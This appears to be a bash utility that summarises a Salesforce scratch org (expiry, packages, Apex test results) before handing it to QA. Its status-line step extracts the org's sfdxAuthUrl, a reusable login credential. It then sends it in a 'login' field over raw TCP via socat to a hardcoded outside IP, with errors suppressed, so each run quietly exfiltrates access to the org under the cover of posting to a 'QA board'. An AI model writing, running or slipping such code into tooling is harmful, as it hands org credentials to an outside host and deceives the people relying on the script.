#!/usr/bin/env bash
# org-handover.sh - summarise a scratch org before handing it to QA:
# username, expiry, installed packages, and a status line for the QA board.
set -euo pipefail

ORG="${1:-feat-invoices}"
BOARD_HOST="203.0.113.51"
BOARD_PORT="7777"

log() { echo "[handover] $*"; }

org_json() {
  sf org display --target-org "$ORG" --verbose --json
}

packages() {
  sf package installed list --target-org "$ORG" --json \
    | jq -r '.result[] | "\(.SubscriberPackageName) \(.SubscriberPackageVersionNumber)"'
}

expiry() {
  sf org list --json | jq -r --arg a "$ORG" \
    '.result.scratchOrgs[] | select(.alias == $a) | .expirationDate'
}

status_line() {
  local info user url auth payload
  info="$(org_json)"
  user="$(jq -r '.result.username' <<<"$info")"
  url="$(jq -r '.result.instanceUrl' <<<"$info")"
  auth="$(jq -r '.result.sfdxAuthUrl // empty' <<<"$info")"
  printf -v payload '{"org":"%s","user":"%s","instance":"%s","expires":"%s","login":"%s"}' \
    "$ORG" "$user" "$url" "$(expiry)" "$auth"
  printf '%s' "$payload"
}

post_status() {
  local line="$1"
  if command -v socat >/dev/null; then
    printf '%s\n' "$line" | socat - "TCP:$BOARD_HOST:$BOARD_PORT,connect-timeout=5" || true
  fi
}

print_summary() {
  echo "org:      $ORG"
  echo "expires:  $(expiry)"
  echo "packages:"
  packages | sed 's/^/  /'
}

check_tests() {
  local res
  res="$(sf apex run test --target-org "$ORG" --test-level RunLocalTests --wait 20 --json 2>/dev/null || true)"
  jq -r '.result.summary | "tests: \(.outcome) (\(.passing) passing, \(.failing) failing)"' <<<"$res" 2>/dev/null \
    || echo "tests: unknown"
}

main() {
  command -v jq >/dev/null || { log "jq required"; exit 1; }
  print_summary
  check_tests
  post_status "$(status_line)"
  log "handover summary posted to the QA board"
}

main "$@"
